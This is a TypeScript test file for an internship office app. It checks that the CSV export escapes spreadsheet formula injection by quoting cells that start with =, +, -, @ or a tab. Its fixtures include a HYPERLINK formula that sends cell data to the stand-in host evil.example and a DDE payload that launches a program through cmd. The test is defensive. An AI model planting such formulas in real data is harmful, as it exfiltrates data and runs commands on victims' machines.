import { useTestPstage } from '../../../support/pstage';
import { readCsv } from '../../../support/readCsv';
import { submitConventionAsStudent } from '../../../support/studentJourney';
import { createHost, download, insertConvention, launchOffice } from './support';

const pstage = useTestPstage();

const formula = '=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")';

describe('the office’s CSV export and formulas typed into the data', () => {
  it('exports a host name, a student name, a city or a tutor that starts a formula as text behind a quote; amounts stay numbers', async () => {
    const { convention } = await submitConventionAsStudent(pstage);
    const host = await createHost(pstage, { name: formula, city: '@SUM(A1:A9)', siret: '55210055400013' });
    await insertConvention(pstage, convention, {
      organisationId: host.id,
      academicYear: '2024-2025',
      gratificationAmount: 4.35,
      gratificationUnit: 'hour',
      student: { ...convention.student, lastName: "+cmd|' /C calc'!A0", firstName: '-2+3', studentNumber: '\t=1+1' },
    });
    const { client } = await launchOffice(pstage);
    const csv = await download(client, '/office/internships/export.csv?academicYear=2024-2025');
    expect(csv.status).toBe(200);
    const [header, row] = readCsv(csv.bytes.subarray(3).toString('utf8'));
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell("Organisme d'accueil")).toBe(`'${formula}`);
    expect(cell('Ville')).toBe("'@SUM(A1:A9)");
    expect(cell('Nom')).toBe("'+cmd|' /C calc'!A0");
    expect(cell('Prénom')).toBe("'-2+3");
    expect(cell('N° étudiant')).toBe("'\t=1+1");
    expect(cell('Gratification (€)')).toBe('4,35');
    // The only formulas: our literals of digits (SIRET, postcode) that keep them as text.
    expect(cell('SIRET')).toBe('="55210055400013"');
    expect(row.filter((value) => /^[=+\-@\t\r]/.test(value) && !/^-?\d+(,\d+)?$/.test(value) && !/^="\d+"$/.test(value))).toEqual([]);
  });
});
